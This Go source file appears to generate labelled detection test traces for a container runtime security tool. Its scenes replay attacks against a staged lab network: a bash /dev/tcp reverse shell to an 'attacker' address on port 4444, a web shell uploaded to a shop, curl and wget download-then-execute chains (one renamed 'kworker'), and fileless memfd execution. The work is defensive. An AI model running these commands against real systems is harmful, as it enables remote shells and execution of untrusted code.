package scenes

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"os"
	"time"

	"github.com/seawall-security/seawall/tools/demo/stage"
)

// answerTimeout bounds how long a scene waits for a peer.
const answerTimeout = 20 * time.Second

// port 4444 of the attacker is where shells connect back to.
var backAddress = netip.AddrPortFrom(stage.Attacker, 4444)

func shells() []Scene {
	const back = "reverse-shell-stdio-socket/"
	const tty = "shell-interactive-in-container/"
	return []Scene{
		{
			File: back + "positive-bash-dev-tcp.jsonl", Note: "bash connects a shell to another host through /dev/tcp.", Keep: noReads,
			Play: func(ctx context.Context, s *Set) error {
				return s.callBack(ctx, box{network: true, args: []string{"/bin/bash", "-c",
					fmt.Sprintf("bash -i >& /dev/tcp/%s/%d 0>&1", backAddress.Addr(), backAddress.Port())}})
			},
		},
		{
			File: back + "positive-php-web-shell.jsonl", Note: "A script uploaded to a web shop gives a shell its connection to another host.", Keep: noReads,
			Prepare: func(ctx context.Context, s *Set) error { return s.shopStep(ctx, "upload a script as a picture") },
			Play:    func(ctx context.Context, s *Set) error { return s.shopStep(ctx, "connect a shell back") },
		},
		{
			File: back + "negative-inetd.jsonl", Note: "inetd gives a shell the connection that it accepted.", Unfiltered: true,
			Play: serveByInetd,
			Keep: noReads,
		},
		{
			File: back + "negative-fetch.jsonl", Note: "A shell's child connects to another host, the shell's own input and output are pipes.", Unfiltered: true,
			Play: func(ctx context.Context, s *Set) error {
				stop, err := s.serve([]byte("hello"))
				if err != nil {
					return err
				}
				defer stop()
				return play(box{network: true, args: sh("attack connect " + stage.Attacker.String() + ":80")}, `"result":"ok"`)(ctx, s)
			},
			Keep: noReads,
		},
		{
			File: tty + "positive-exec.jsonl", Note: "Somebody enters a web shop's container with a terminal.", Keep: noReads,
			Play: func(ctx context.Context, s *Set) error { return s.shopStep(ctx, "enter with a terminal") },
		},
		{
			File: tty + "positive-piped.jsonl", Note: "Somebody feeds commands to a shell in a container, without a terminal, as kubectl exec -i does.", Keep: noReads,
			Prepare: startSleeper,
			Play: func(ctx context.Context, s *Set) error {
				out, err := s.execFed(ctx, s.started[0], "echo $((6 * 7))\n", "/bin/bash")
				return errors.Join(err, expect(out, "42"))
			},
		},
		{
			File: tty + "positive-busybox-link.jsonl", Note: "Somebody enters a container with a terminal; its sh is a link to busybox, as on Alpine.", Keep: noReads,
			Prepare: func(ctx context.Context, s *Set) error {
				id, err := s.start(ctx, box{args: sh("ln -s /bin/busybox /usr/local/bin/ash; exec busybox sleep 600")})
				if err != nil {
					return err
				}
				_, err = s.exec(ctx, id, "/bin/busybox", "test", "-e", "/usr/local/bin/ash")
				return err
			},
			Play: func(ctx context.Context, s *Set) error {
				out, err := s.execTyped(ctx, s.started[0], "echo $((6 * 7))\nexit\n", "ash")
				return errors.Join(err, expect(out, "42"))
			},
		},
		{
			File: tty + "positive-busybox-sh.jsonl", Note: "Somebody enters a container with a terminal and asks busybox for its shell.", Keep: noReads,
			Prepare: startSleeper,
			Play: func(ctx context.Context, s *Set) error {
				out, err := s.execTyped(ctx, s.started[0], "echo $((6 * 7))\nexit\n", "/bin/busybox", "sh")
				return errors.Join(err, expect(out, "42"))
			},
		},
		{
			File: tty + "negative-started-with-terminal.jsonl", Note: "A container is started with a terminal, its own first program is a shell.", Keep: noReads,
			Play: func(ctx context.Context, s *Set) error {
				out, err := s.terminal(ctx, box{args: []string{"/bin/bash"}}, "echo $((6 * 7))\nexit\n")
				return errors.Join(err, expect(out, "42"))
			},
		},
		{
			File: tty + "negative-exec-command.jsonl", Note: "A command is run in a container at a terminal, by a shell that ends with it.", Keep: noReads,
			Prepare: startSleeper,
			Play: func(ctx context.Context, s *Set) error {
				out, err := s.execTyped(ctx, s.started[0], "", "/bin/sh", "-c", "echo $((6 * 7))")
				return errors.Join(err, expect(out, "42"))
			},
		},
		{
			File: tty + "negative-probe.jsonl", Note: "A probe runs a shell in a container, without a terminal.", Keep: noReads,
			Prepare: startSleeper,
			Play: func(ctx context.Context, s *Set) error {
				out, err := s.exec(ctx, s.started[0], "/bin/sh", "-c", "echo $((6 * 7))")
				return errors.Join(err, expect(out, "42"))
			},
		},
	}
}

// startSleeper starts a container that waits.
func startSleeper(ctx context.Context, s *Set) error {
	_, err := s.start(ctx, box{args: []string{"/bin/busybox", "sleep", "600"}})
	return err
}

// callBack runs a box that connects a shell to the attacker, and talks to it.
func (s *Set) callBack(ctx context.Context, b box) error {
	listener, err := s.stage.Listen(backAddress)
	if err != nil {
		return fmt.Errorf("listen for the shell: %w", err)
	}
	defer listener.Close()
	if err := listener.SetDeadline(time.Now().Add(answerTimeout)); err != nil {
		return fmt.Errorf("bound the wait: %w", err)
	}
	heard := make(chan error, 1)
	// Ends with the connection, or at the deadline.
	go func() {
		conn, err := listener.Accept()
		if err == nil {
			err = converse(conn)
		}
		heard <- err
	}()
	_, err = s.run(ctx, b)
	if err != nil {
		listener.Close()
	}
	return errors.Join(err, <-heard)
}

// converse asks a shell one thing.
func converse(conn net.Conn) error {
	defer conn.Close()
	if err := conn.SetDeadline(time.Now().Add(answerTimeout)); err != nil {
		return fmt.Errorf("bound the talk: %w", err)
	}
	if _, err := conn.Write([]byte("echo $((6 * 7))\nexit\n")); err != nil {
		return fmt.Errorf("talk to the shell: %w", err)
	}
	text, err := readAll(conn)
	if err != nil {
		return fmt.Errorf("listen to the shell: %w", err)
	}
	return expect(text, "42")
}

// serveByInetd has inetd run a shell for a visitor.
func serveByInetd(ctx context.Context, s *Set) error {
	id, err := s.start(ctx, box{network: true, args: []string{"/usr/sbin/inetd", "-i"}})
	if err != nil {
		return err
	}
	s.use(id)
	return s.dial(ctx, 2323, converse)
}

// dial connects to a port of the pod from outside, as soon as somebody listens.
func (s *Set) dial(ctx context.Context, port uint16, talk func(net.Conn) error) error {
	ctx, cancel := context.WithTimeout(ctx, answerTimeout)
	defer cancel()
	transport := s.stage.HTTP(stage.Visitor).Transport.(*http.Transport)
	for {
		conn, err := transport.DialContext(ctx, "tcp4", netip.AddrPortFrom(podAddress, port).String())
		if err == nil {
			return talk(conn)
		}
		select {
		case <-ctx.Done():
			return fmt.Errorf("connect to the pod: %w", err)
		case <-time.After(20 * time.Millisecond): // nothing tells when it listens
		}
	}
}

// podAddress is the shop's.
var podAddress = netip.MustParseAddr("10.20.0.2")

// serve offers a file by HTTP outside of the pod until stop is called.
func (s *Set) serve(content []byte) (stop func(), err error) {
	listener, err := s.stage.Listen(netip.AddrPortFrom(stage.Attacker, 80))
	if err != nil {
		return nil, fmt.Errorf("listen: %w", err)
	}
	server := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		_, _ = w.Write(content) // whoever fetches it notices
	})}
	ended := make(chan struct{})
	// Ends when the server is closed.
	go func() {
		defer close(ended)
		_ = server.Serve(listener) // says that it was closed
	}()
	return func() {
		server.Close()
		<-ended
	}, nil
}

func files() []Scene {
	const fetch = "download-then-execute/"
	const drift = "drift-new-binary-executed/"
	const memfd = "exec-fileless-memfd/"
	const deleted = "exec-deleted-binary/"
	url := "http://" + stage.Attacker.String() + "/update"
	return []Scene{
		{
			File: fetch + "positive-curl.jsonl", Note: "curl fetches a program into a container, which is run.", Keep: noReads,
			Play: fetched(box{network: true, args: sh("curl -fsS -o /tmp/update " + url + " && chmod +x /tmp/update && /tmp/update noop -say ran")}, "ran"),
		},
		{
			File: fetch + "positive-wget-renamed.jsonl", Note: "wget fetches a program, which is moved and run.", Keep: noReads,
			Play: fetched(box{network: true, args: sh("wget -q -O /tmp/u " + url + " && mv /tmp/u /tmp/kworker && chmod +x /tmp/kworker && /tmp/kworker noop -say ran")}, "ran"),
		},
		{
			File: fetch + "positive-redirected.jsonl", Note: "A shell opens the file that curl's output goes to; it is run.", Keep: noReads,
			Play: fetched(box{network: true, args: sh("curl -fsS " + url + " > /tmp/update && chmod +x /tmp/update && /tmp/update noop -say ran")}, "ran"),
		},
		{
			File: fetch + "positive-busybox-wget.jsonl", Note: "busybox, called as wget, fetches a program, which is run.", Keep: noReads,
			Play: fetched(box{network: true, args: sh("mkdir /tmp/b && ln -s /bin/busybox /tmp/b/wget && /tmp/b/wget -q -O /tmp/update " + url + " && chmod +x /tmp/update && /tmp/update noop -say ran")}, "ran"),
		},
		{
			File: fetch + "negative-data.jsonl", Note: "curl fetches data; a program of the image is run on it.", Keep: noReads,
			Play: fetched(box{network: true, args: sh("curl -fsS -o /tmp/data " + url + " && wc -c /tmp/data")}, "/tmp/data"),
		},
		{
			File: fetch + "negative-dpkg-script.jsonl", Note: "A package's script fetches a program and runs it as dpkg installs the package.", Keep: named("fetched-tool"),
			Prepare: func(ctx context.Context, _ *Set) error {
				return buildPackage(ctx, "#!/bin/sh\nset -e\ncurl -fsS -o /usr/bin/fetched-tool "+url+"\nchmod +x /usr/bin/fetched-tool\n/usr/bin/fetched-tool noop -say ran\n")
			},
			Play: fetched(installBox("dpkg --install /pkg/tool.deb"), "ran"),
		},
		{
			File: drift + "positive-copied.jsonl", Note: "A program is copied within a container and run.", Keep: noReads,
			Play: play(box{args: sh("cp /bin/busybox /tmp/busybox && /tmp/busybox echo ran")}, "ran"),
		},
		{
			File: drift + "positive-as-dpkg.jsonl", Note: "A dropped program calls itself dpkg and runs another.", Keep: noReads,
			Play: play(box{args: sh("cp /bin/bash /tmp/dpkg && cp /usr/local/bin/attack /tmp/miner && /tmp/dpkg -c '/tmp/miner noop -say ran; true'")}, "ran"),
		},
		{
			File: drift + "negative-image.jsonl", Note: "Programs of the image run.", Keep: noReads,
			Play: play(box{args: sh("/bin/busybox echo ran; /usr/local/bin/attack noop")}, "ran"),
		},
		{
			File: drift + "negative-dpkg-script.jsonl", Note: "dpkg installs a package whose script runs the program that came with it.", Keep: named("packaged-tool"),
			Prepare: func(ctx context.Context, _ *Set) error {
				return buildPackage(ctx, "#!/bin/sh\nset -e\n/usr/bin/packaged-tool noop -say ran\n")
			},
			Play: play(installBox("dpkg --install /pkg/tool.deb"), "ran"),
		},
		{
			File: drift + "negative-dpkg-installed.jsonl", Note: "A program that dpkg installed is run later.", Keep: named("packaged-tool"),
			Prepare: func(ctx context.Context, _ *Set) error { return buildPackage(ctx, "#!/bin/sh\n") },
			Play:    play(installBox("dpkg --install /pkg/tool.deb && /usr/bin/packaged-tool noop -say ran"), "ran"),
		},
		{
			File: memfd + "positive-memfd.jsonl", Note: "A program becomes a copy of itself that lies in memory only.", Keep: noReads,
			Play: play(box{args: []string{"/usr/local/bin/attack", "memfd-exec"}}, `"result":"ok"`),
		},
		{
			File: memfd + "negative-runc.jsonl", Note: "runc starts a container through a copy of itself that has no name.", Keep: noReads,
			Play: play(box{args: []string{"/bin/busybox", "echo", "ran"}}, "ran"),
		},
		{
			File: memfd + "negative-mapped.jsonl", Note: "A program maps a memfd executable but runs no program from it.", Unfiltered: true, Keep: noReads,
			Play: play(box{args: []string{"/usr/local/bin/attack", "mmap-memfd-exec"}}, `"result":"ok"`),
		},
		{
			File: deleted + "positive-deleted.jsonl", Note: "A program is run whose file was deleted before.", Keep: noReads,
			Play: play(box{args: []string{"/usr/local/bin/attack", "deleted-exec"}}, `"result":"ok"`),
		},
		{
			File: deleted + "negative-deletes-itself.jsonl", Note: "An installer's helper is deleted as it runs.", Keep: noReads,
			Play: play(box{args: sh("cp /bin/bash /tmp/helper; /tmp/helper -c 'rm /tmp/helper; echo ran'")}, "ran"),
		},
	}
}

// fetched plays a box while the actor's binary is offered by HTTP.
func fetched(b box, word string) func(context.Context, *Set) error {
	return func(ctx context.Context, s *Set) error {
		payload, err := os.ReadFile(s.actor)
		if err != nil {
			return fmt.Errorf("read the actor: %w", err)
		}
		stop, err := s.serve(payload)
		if err != nil {
			return err
		}
		defer stop()
		return play(b, word)(ctx, s)
	}
}
